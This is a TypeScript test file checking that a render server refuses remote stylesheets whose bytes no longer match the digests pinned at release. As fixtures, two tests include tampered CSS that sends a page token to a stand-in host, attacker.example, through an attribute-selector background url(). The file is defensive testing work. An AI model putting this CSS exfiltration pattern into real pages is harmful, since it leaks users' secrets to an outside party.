import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { ENTRY_ASSETS_FILE, MANIFEST_FILE, parseRuntimeConfig, type RuntimeConfig } from '@wenrun/shared/node';
import { collectStylesheets } from './stylesheets';

/**
 * Issue 51: the critical CSS inlines remotes' stylesheets into every page the render server sends. Whoever changes
 * a remote's stylesheet on its origin after its release (a rule whose `url()` carries a page's secrets away) must
 * not get it into a page: each file is checked against the digests the release pinned, like the remotes' code.
 */

const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
const RELEASED_CSS = '.about-page{color:#222}';
const MANIFEST = JSON.stringify({ exposes: [{ assets: { css: { sync: ['css/about.1a2b.css'], async: [] } } }] });

let origin: string;
let served: Map<string, string>;
let server: http.Server;
let shellDir: string;

beforeAll(async () => {
  served = new Map();
  server = http.createServer((request, response) => {
    const body = served.get(request.url ?? '');
    response.writeHead(body === undefined ? 404 : 200).end(body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  shellDir = fs.mkdtempSync(path.join(os.tmpdir(), 'stylesheets-'));
  fs.writeFileSync(path.join(shellDir, ENTRY_ASSETS_FILE), JSON.stringify({ main: { initial: { css: [] }, async: { css: [] } } }));
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  fs.rmSync(shellDir, { recursive: true, force: true });
});

beforeEach(() => {
  served.set(`/about/${MANIFEST_FILE}`, MANIFEST);
  served.set('/about/css/about.1a2b.css', RELEASED_CSS);
});

/** The config of a site whose about remote is released at the test's origin, pinned as its release recorded it. */
function releasedConfig(pins: Record<string, string> = { [MANIFEST_FILE]: sri(MANIFEST), 'css/about.1a2b.css': sri(RELEASED_CSS) }): RuntimeConfig {
  const entry = `${origin}/about/${MANIFEST_FILE}`;
  return parseRuntimeConfig({ remotes: { about: [entry] }, digests: { [entry]: pins } }).config;
}

describe('collectStylesheets', () => {
  it("reads a remote's stylesheets whose bytes are the released ones", async () => {
    const site = await collectStylesheets(shellDir, releasedConfig(), ['about'], true);
    expect([...(site.remotes.about?.values() ?? [])]).toEqual([RELEASED_CSS]);
    expect(site.refused).toEqual([]);
  });

  it("inlines nothing of a stylesheet changed on the remote's origin after its release, and says which file", async () => {
    served.set('/about/css/about.1a2b.css', `${RELEASED_CSS}.about-page[data-token^="a"]{background:url(https://attacker.example/a)}`);
    const site = await collectStylesheets(shellDir, releasedConfig(), ['about'], true);
    expect(site.remotes.about?.size ?? 0).toBe(0);
    expect(site.refused).toEqual([expect.objectContaining({ remote: 'about', file: 'css/about.1a2b.css', reason: 'changed' })]);
  });

  it('reads no stylesheet a changed manifest names instead', async () => {
    served.set(`/about/${MANIFEST_FILE}`, MANIFEST.replace('about.1a2b.css', 'evil.css'));
    served.set('/about/css/evil.css', '.about-page{background:url(https://attacker.example/)}');
    const site = await collectStylesheets(shellDir, releasedConfig(), ['about'], true);
    expect(site.remotes.about?.size ?? 0).toBe(0);
    expect(site.refused).toEqual([expect.objectContaining({ remote: 'about', file: MANIFEST_FILE, reason: 'changed' })]);
  });

  it('reads no stylesheet its release pinned nothing for where pins are required (a site served over https)', async () => {
    const site = await collectStylesheets(shellDir, releasedConfig({ [MANIFEST_FILE]: sri(MANIFEST) }), ['about'], true);
    expect(site.remotes.about?.size ?? 0).toBe(0);
    expect(site.refused).toEqual([expect.objectContaining({ file: 'css/about.1a2b.css', reason: 'unpinned' })]);
  });
});
